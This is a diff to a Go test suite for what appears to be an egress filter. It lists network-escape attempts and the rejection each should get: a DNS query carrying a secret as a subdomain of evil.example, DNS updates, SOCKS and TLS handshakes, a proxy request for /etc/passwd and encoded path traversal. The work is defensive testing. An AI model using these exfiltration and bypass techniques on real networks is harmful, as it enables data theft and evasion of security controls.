@@ -98,8 +98,8 @@ func dns() []Attempt {
 	add("DNS in the class CHAOS", Gateway+":53", query("version.bind.", dnsmessage.TypeTXT, func(m *dnsmessage.Message) { m.Questions[0].Class = dnsmessage.ClassCHAOS }), egress.ReasonName)
 	add("DNS with two questions", Gateway+":53", query("api.example.com.", dnsmessage.TypeA, func(m *dnsmessage.Message) {
 		m.Questions = append(m.Questions, dnsmessage.Question{Name: dnsmessage.MustNewName(secret + ".evil.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
-	}))
-	add("DNS update", Gateway+":53", query("evil.example.", dnsmessage.TypeSOA, func(m *dnsmessage.Message) { m.OpCode = 5 }))
+	}), egress.ReasonMalformed)
+	add("DNS update", Gateway+":53", query("evil.example.", dnsmessage.TypeSOA, func(m *dnsmessage.Message) { m.OpCode = 5 }), egress.ReasonMalformed)
 	add("another DNS server", Evil+":53", query("evil.example.", dnsmessage.TypeA, nil), egress.ReasonHost)
 	return all
 }
@@ -311,6 +311,9 @@ func proxy() []Attempt {
 	add("a URL of https", egress.ReasonMalformed, "GET https://front.example.com/ HTTP/1.1\r\nHost: front.example.com\r\n\r\n")
 	add("a URL of a file", egress.ReasonMalformed, "GET file:///etc/passwd HTTP/1.1\r\nHost: front.example.com\r\n\r\n")
 	add("a request that is for no proxy", egress.ReasonMalformed, get("front.example.com"))
+	add("SOCKS5", egress.ReasonProtocol, "\x05\x01\x00", "\x05\x01\x00\x03\x0cevil.example\x00\x50")
+	add("SOCKS4", egress.ReasonProtocol, "\x04\x01\x00\x50\xc6\x33\x64\x08\x00")
+	add("TLS", egress.ReasonProtocol, string(Hello("evil.example")))
 	add("a path that is not allowed", egress.ReasonPath, "GET http://strict.example.com/closed HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
 	add("a path out of an allowed one", egress.ReasonPath, "GET http://strict.example.com/open/../closed HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
 	add("an escaped path out of an allowed one", egress.ReasonPath, "GET http://strict.example.com/open/%2e%2e/closed HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
